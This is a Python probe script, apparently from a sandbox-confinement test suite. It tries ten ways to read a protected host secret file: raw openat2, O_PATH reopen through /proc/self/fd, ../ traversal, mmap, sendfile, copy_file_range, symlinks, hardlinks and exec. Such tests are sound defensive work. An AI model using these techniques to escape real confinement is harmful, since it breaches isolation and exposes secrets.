"""Reads a file of the host by every way to open one. None of its bytes must be had.

Unconfined: breaches
Variants: open, openat2, path_then_reopen, dotdot, mapped, sendfile, copy_range, symlink, hardlink, exec_script
"""

import mmap

from attack import TARGETS, VARIANT, ctypes, os, say, syscall

secret = TARGETS["secret_file"]


def show(data):
    say("read " + bytes(data)[:200].decode("utf-8", "replace"))


if VARIANT == "open":
    show(open(secret, "rb").read())
elif VARIANT == "openat2":
    descriptor = syscall("openat2", -100, ctypes.c_char_p(secret.encode()), (ctypes.c_uint64 * 3)(), 24)
    if descriptor < 0:
        raise OSError(-descriptor, "refused")
    show(os.read(descriptor, 200))
elif VARIANT == "path_then_reopen":
    descriptor = os.open(secret, os.O_PATH)
    show(open(f"/proc/self/fd/{descriptor}", "rb").read())
elif VARIANT == "dotdot":
    show(open("../" * 40 + secret.lstrip("/"), "rb").read())
elif VARIANT == "mapped":
    with open(secret, "rb") as file:
        show(mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:200])
elif VARIANT == "sendfile":
    os.sendfile(1, os.open(secret, os.O_RDONLY), 0, 200)
elif VARIANT == "copy_range":
    os.copy_file_range(os.open(secret, os.O_RDONLY), os.open("copy", os.O_RDWR | os.O_CREAT, 0o600), 200)
    show(open("copy", "rb").read())
elif VARIANT == "symlink":
    os.symlink(secret, "link")
    show(open("link", "rb").read())
elif VARIANT == "hardlink":
    os.link(secret, "hard")
    show(open("hard", "rb").read())
else:
    exec(compile(open(secret).read(), "secret", "exec"))
